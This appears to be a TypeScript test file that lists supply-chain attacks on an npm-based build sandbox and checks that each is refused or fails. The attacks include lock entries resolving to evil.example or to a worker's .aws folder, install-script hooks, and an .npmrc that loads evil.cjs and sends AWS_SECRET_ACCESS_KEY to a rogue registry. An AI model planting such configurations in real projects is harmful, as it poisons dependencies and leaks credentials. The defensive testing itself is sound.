import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { appOf, type Mode, type RepositoryAttack, type Stage } from '../attack.ts';
import { packageOf } from '../registry.ts';

const aim = 'poison the packages';
const refusal = 'synth.lock-file';
const integrity = `sha512-${'A'.repeat(86)}==`;
/** Without an address: then only what each attack changes can be what is refused. */
const good = { version: '1.0.0', integrity };

/** A project whose lock file has one entry. */
function lockOf(
  entry: object,
  more: {
    readonly root?: object;
    readonly manifest?: object;
    readonly where?: string;
    readonly files?: Readonly<Record<string, string>>;
  } = {},
) {
  const { root = { dependencies: { a: '1.0.0' } }, manifest = root, where = 'node_modules/a', files = {} } = more;
  return () =>
    appOf(`say('x');`, {
      'package.json': JSON.stringify({ type: 'module', ...manifest }),
      'package-lock.json': JSON.stringify({ lockfileVersion: 3, packages: { '': root, [where]: entry } }),
      ...files,
    });
}

/** A project that installs one package of the registry of the stage. */
function install(
  name: string,
  code: string,
  files: (stage: Stage) => Readonly<Record<string, string>> = () => ({}),
  wrong = false,
) {
  return (stage: Stage) => {
    const archive = packageOf(name, stage);
    const hash = createHash('sha512')
      .update(wrong ? 'something else' : archive)
      .digest('base64');
    const dependencies = { [name]: '1.0.0' };
    return appOf(code, {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        type: 'module',
        dependencies,
        scripts: { preinstall: `echo taken > ${stage.treasure}`, prepare: `echo taken > ${stage.treasure}` },
      }),
      'package-lock.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        lockfileVersion: 3,
        packages: {
          '': { name: 'x', version: '1.0.0', dependencies, hasInstallScript: true },
          [`node_modules/${name}`]: { version: '1.0.0', integrity: `sha512-${hash}`, hasInstallScript: true },
        },
      }),
      ...files(stage),
    });
  };
}

const taken = ({ stage }: { readonly stage: Stage }): string | undefined =>
  readFileSync(stage.treasure, 'utf8').includes('taken') ? 'a script ran' : undefined;
const withRegistry: readonly Mode[] = ['namespace', 'namespace, not root', 'uid'];

export const poisonThePackages: readonly RepositoryAttack[] = [
  {
    name: 'no lock file',
    aim,
    refusal,
    files: () => appOf(`say('x');`, { 'package.json': '{"dependencies":{"a":"1.0.0"}}' }),
  },
  {
    name: 'a package from another host',
    aim,
    refusal,
    sample: true,
    files: lockOf({ ...good, resolved: 'https://evil.example/a.tgz' }),
  },
  { name: 'a package over http', aim, refusal, files: lockOf({ ...good, resolved: 'http://localhost/a.tgz' }) },
  {
    name: 'a package from Git',
    aim,
    refusal,
    files: lockOf({ ...good, resolved: 'git+ssh://git@localhost/a.git#0123' }),
  },
  { name: 'a package from a file', aim, refusal, files: lockOf({ ...good, resolved: 'file:../../worker/.aws' }) },
  { name: 'a package that is a link', aim, refusal, files: lockOf({ link: true, resolved: 'packages/a' }) },
  { name: 'a package outside of node_modules', aim, refusal, files: lockOf(good, { where: 'node_modules/../../a' }) },
  { name: 'a package without a hash', aim, refusal, files: lockOf({ version: '1.0.0' }) },
  {
    name: 'a package with a weak hash',
    aim,
    refusal,
    files: lockOf({ ...good, integrity: 'sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=' }),
  },
  {
    name: 'a package that brings a lock file of its own',
    aim,
    refusal,
    files: lockOf({ ...good, hasShrinkwrap: true }),
  },
  {
    name: 'a dependency on Git that only package.json names',
    aim,
    refusal,
    files: lockOf(good, { manifest: { dependencies: { a: '1.0.0', b: 'git+https://evil.example/b.git' } } }),
  },
  {
    name: 'an override that only package.json names',
    aim,
    refusal,
    files: lockOf(good, { manifest: { dependencies: { a: '1.0.0' }, overrides: { c: { d: 'github:evil/d' } } } }),
  },
  {
    name: 'a peer dependency from an address',
    aim,
    refusal,
    files: lockOf({ ...good, peerDependencies: { b: 'https://evil.example/b.tgz' } }),
  },
  {
    name: 'workspaces that only package.json names',
    aim,
    refusal,
    files: lockOf(good, { manifest: { dependencies: { a: '1.0.0' }, workspaces: ['packages/*'] } }),
  },
  {
    name: 'a lock file of a billion laughs of names',
    aim,
    files: () =>
      appOf(`say('x');`, {
        'package.json': '{"dependencies":{"a":"1"}}',
        'package-lock.json': `{"lockfileVersion":3,"packages":{${Array.from({ length: 100_000 }, (_, n) => `"node_modules/a/${'node_modules/b/'.repeat(3)}node_modules/${n}":{}`).join(',')}}}`,
      }),
    refusal,
  },
  {
    name: 'an .npmrc with another registry, a shell and scripts switched on',
    aim,
    modes: withRegistry,
    judge: taken,
    files: install('honest', `import honest from 'honest'; say(honest);`, ({ port, treasure }) => ({
      '.npmrc': `registry=http://127.0.0.1:${port}/\nignore-scripts=false\nscript-shell=/bin/sh\nnode-options=--require=./evil.cjs\nprefix=/tmp\n//127.0.0.1:${port}/:_authToken=\${AWS_SECRET_ACCESS_KEY}\n`,
      'evil.cjs': `require('node:fs').writeFileSync('${treasure}', 'taken')`,
    })),
  },
  {
    name: 'scripts of a package and of the project',
    aim,
    sample: true,
    modes: withRegistry,
    judge: taken,
    files: install('scripts', `import it from 'scripts'; say(it);`),
  },
  {
    name: 'a package whose archive holds a link to a secret',
    aim,
    modes: withRegistry,
    files: install(
      'links',
      `import { readFileSync } from 'node:fs'; say([tryTo(() => readFileSync('node_modules/links/x', 'utf8')), tryTo(() => readFileSync('node_modules/links/y/credentials', 'utf8'))]);`,
    ),
  },
  {
    name: 'a package whose archive climbs out of its folder',
    aim,
    modes: withRegistry,
    judge: taken,
    files: install('climbs', `say('x');`),
  },
  {
    name: 'a package that is not what its hash says',
    aim,
    modes: withRegistry,
    refusal: 'synth.integrity',
    files: install('honest', `say('x');`, undefined, true),
  },
  {
    name: 'an app that changes its packages for the next commit',
    aim,
    modes: withRegistry,
    files: install(
      'honest',
      `import { rmSync, writeFileSync } from 'node:fs'; say(['index.js', 'new.js'].map((name) => tryTo(() => { writeFileSync('node_modules/honest/' + name, 'evil'); return 'CHANGED'; })).concat(tryTo(() => { rmSync('node_modules/honest/index.js'); return 'CHANGED'; })));`,
    ),
    judge: ({ end }) => (end.text.includes('CHANGED') ? 'a package was changed' : undefined),
  },
];
